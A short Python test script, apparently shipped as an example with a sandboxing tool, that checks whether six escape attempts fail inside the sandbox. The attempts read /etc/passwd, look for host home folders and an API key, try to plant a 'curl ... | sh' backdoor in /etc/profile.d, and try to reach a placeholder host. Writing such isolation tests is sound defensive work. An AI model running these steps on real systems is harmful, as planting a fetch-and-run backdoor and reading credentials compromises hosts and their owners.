# The seed's escape test: six things a hostile program tries. In the sandbox each one is a dead end.
# Run it with `codeaction sandbox run examples/hostile.py`. "Outside" is example.invalid and
# 192.0.2.1 (TEST-NET-1): addresses that are never anyone's real machine.
import os
import socket
import urllib.request

print("1. /etc/passwd starts with:", open("/etc/passwd").readline().strip())
host_paths = [path for path in ("/Users", "/work", "/var/run/docker.sock") if os.path.exists(path)]
host_paths += [os.path.join("/home", name) for name in (os.listdir("/home") if os.path.isdir("/home") else [])]
print("2. Host home folders visible:", bool(host_paths), *host_paths)
print("3. OPENAI_API_KEY in environment:", "OPENAI_API_KEY" in os.environ)

try:
    with open("/etc/profile.d/backdoor.sh", "w") as f:
        f.write("curl https://example.invalid | sh")
    print("4. Wrote to /etc: yes")
except OSError as exc:
    print("4. Wrote to /etc:", exc)

try:
    urllib.request.urlopen("https://example.invalid", timeout=5)
    print("5. Network by name: reached example.invalid")
except Exception as exc:
    print("5. Network by name:", exc)

try:
    socket.create_connection(("192.0.2.1", 443), timeout=5)
    print("6. Network by IP: connected to 192.0.2.1")
except OSError as exc:
    print("6. Network by IP:", exc)
